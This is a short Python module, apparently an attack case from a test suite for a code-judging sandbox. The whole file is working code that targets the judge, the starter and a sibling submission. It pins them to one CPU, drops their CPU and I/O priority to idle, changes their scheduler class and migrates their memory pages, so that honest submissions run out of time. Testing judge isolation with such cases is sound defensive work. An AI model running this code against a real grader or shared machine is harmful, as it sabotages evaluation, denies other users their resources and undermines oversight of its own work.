# attack: Slows the judge and the other submission: one processor, least priority, idle class, idle input and output.
# hurts: Honest submissions run into their time limits.
# ends: returns
import os

from _raw import attempt, call

IDLE_CLASS = 3 << 13


def attack(target):
    tried = []
    for pid in (target["judge_pid"], target["starter_pid"], target["sibling_pid"], target["sibling_outer_pid"], os.getppid()):
        if pid in (0, os.getpid()):
            continue
        tried.append(attempt("affinity", os.sched_setaffinity, pid, {0}))
        tried.append(attempt("priority", os.setpriority, os.PRIO_PROCESS, pid, 19))
        tried.append(attempt("group", os.setpriority, os.PRIO_PGRP, pid, 19))
        tried.append(attempt("class", os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0)))
        tried.append(f"ioprio: {call('ioprio_set', 1, pid, IDLE_CLASS)}")
        attributes = (48).to_bytes(4, "little") + os.SCHED_BATCH.to_bytes(4, "little") + bytes(40)
        tried.append(f"attributes: {call('sched_setattr', pid, attributes, 0)}")
        tried.append(f"moved: {call('migrate_pages', pid, 64, bytes(8), bytes(8))}")
    if not any(line.endswith("None") for line in tried):  # else it would slow everything on the machine
        tried.append(attempt("user", os.setpriority, os.PRIO_USER, 0, 19))
    return tried
